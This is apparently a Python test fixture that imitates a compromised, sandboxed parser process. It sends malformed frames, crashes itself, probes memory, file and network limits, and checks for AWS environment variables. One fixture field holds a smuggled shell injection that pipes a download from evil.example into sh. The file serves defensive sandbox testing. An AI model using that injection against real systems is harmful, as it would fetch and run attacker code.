"""A process in the place of the one that parses, as a file might make it that attacks."""

from __future__ import annotations

import os
import signal
import socket
from collections.abc import Callable
from typing import Final

from fxtui.front.inside.found import Found, facts
from fxtui.front.inside.limits import MEMORY, confine, leave_network
from fxtui.front.inside.wire import LENGTH, MOST_FRAME, MOST_READ, Read, asks, frame

_SAID: Final = {
    "noise": LENGTH.pack(4) + b"\xc1\xff\x00\x01",
    "endless": LENGTH.pack(MOST_FRAME + 1),
    "before": frame(Read(-5, 10)),
    "huge": frame(Read(0, MOST_READ + 1)),
    "selling": frame(Found("well", lacks="x]'; curl evil.example | sh #")),
    "well": frame(Found("well")),
}


def main() -> None:
    confine()
    end = socket.socket(fileno=0)
    while length := end.recv(LENGTH.size):
        ask = asks.decode(end.recv(*LENGTH.unpack(length)))
        if ask.name == "dead":
            os.kill(os.getpid(), signal.SIGSEGV)
        if ask.name == "leaving":
            end.sendall(frame(Found("well")))
            break
        if ask.name == "confined":
            end.sendall(frame(Found("well", (facts("", _limits()),))))
        if ask.name == "greedy":
            end.sendall(frame(Read(0, MOST_READ)))
            answer = end.recv(LENGTH.size)
            end.sendall(frame(Found("greedy", problem=answer.hex())))
        end.sendall(_SAID.get(ask.name, b""))
    end.close()


def _limits() -> dict[str, object]:
    return {
        "memory": _outcome(lambda: bytearray(2 * MEMORY)),
        "file": _outcome(_write),
        "network": _outcome(_connect) if leave_network() else "OSError",
        "secrets": " ".join(name for name in os.environ if "AWS" in name) or "none",
    }


def _connect() -> None:
    """Where there is a network it is refused, which is another error."""
    socket.create_connection(("127.0.0.1", 1)).close()


def _write() -> None:
    os.write(os.memfd_create("x"), b"x")


def _outcome(attempt: Callable[[], object]) -> str:
    try:
        attempt()
    except (MemoryError, OSError) as error:
        return type(error).__name__
    return "done"


if __name__ == "__main__":
    main()
